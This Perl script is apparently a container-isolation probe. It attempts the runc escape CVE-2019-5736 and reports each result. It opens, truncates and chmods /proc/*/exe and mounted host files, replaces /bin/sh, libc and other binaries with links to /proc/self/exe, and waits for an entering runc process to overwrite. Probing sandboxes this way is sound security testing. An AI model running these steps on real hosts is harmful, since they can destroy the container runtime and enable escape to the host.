require './calls.pl';

# A runtime that enters a box can be overwritten by way of /proc/self/exe (CVE-2019-5736): write there, and lie in wait.
sub overwrite {
  my ($path, $what) = @_;
  for my $how (['write', 1], ['write and truncate', 1 | 01000], ['append', 1 | 02000], ['read and write', 2]) {
    answer("$how $what", sysopen my $file, $path, $how->[1]);
  }
  answer("chmod $what", chmod 0777, $path);
  answer("truncate $what", truncate $path, 0);
  # The engine's init is a file of the host's, mounted here: a link to it, or another time on it, would be the host's, too.
  my ($from, $to) = ("$path\0", "/tmp/linked\0");
  call("link $what", [265, 37], -100, $from, -100, $to, 0x400);
  my $time = pack('q4', 1, 0, 1, 0);
  call("times of $what", [280, 88], -100, $from, $time, 0);
  my ($name, $value) = ("user.note\0", "x");
  call("attribute of $what", [188, 5], $from, $name, $value, 1, 0);
  my $descriptor = syscall($main::arm ? 56 : 257, -100, $from, 010000000, 0);
  answer("write $what by its descriptor", $descriptor >= 0 && sysopen my $again, "/proc/self/fd/$descriptor", 1);
}
overwrite("/proc/$_/exe", "the program of $_") for 1, getppid(), 'self';
overwrite($_, $_) for '/usr/sbin/docker-init', '/sbin/docker-init', '/usr/local/bin/node', '/.dockerenv', '/etc/hostname', '/etc/hosts', '/etc/resolv.conf', '/lib64/ld-linux-x86-64.so.2';

# What a runtime would run or load when it enters: made to be the runtime itself.
for my $target ('/bin/sh', '/bin/bash', '/usr/bin/env', '/usr/local/bin/node', '/lib/x86_64-linux-gnu/libc.so.6') {
  answer("replace $target", symlink('/proc/self/exe', '/tmp/x') && rename('/tmp/x', $target));
  unlink '/tmp/x';
}

# Waits for somebody from outside: a process that was not there, with a program that this box doesn't have.
my %known = map { $_ => 1 } grep { /^\d+$/ } map { m{/(\d+)$} } glob '/proc/[0-9]*';
my $came = 0;
for (1 .. 60) {
  select undef, undef, undef, 0.02;
  for my $path (glob '/proc/[0-9]*') {
    my ($id) = $path =~ m{/(\d+)$};
    next if $known{$id} || $id == $$;
    my $program = readlink("/proc/$id/exe") // '';
    if ($program =~ /runc|memfd|crun|exec/) { $came++; overwrite("/proc/$id/exe", "the runtime $program") }
  }
}
print $came ? "OPEN somebody came in\n" : "shut nobody came in\n";
print "lay in wait\n";
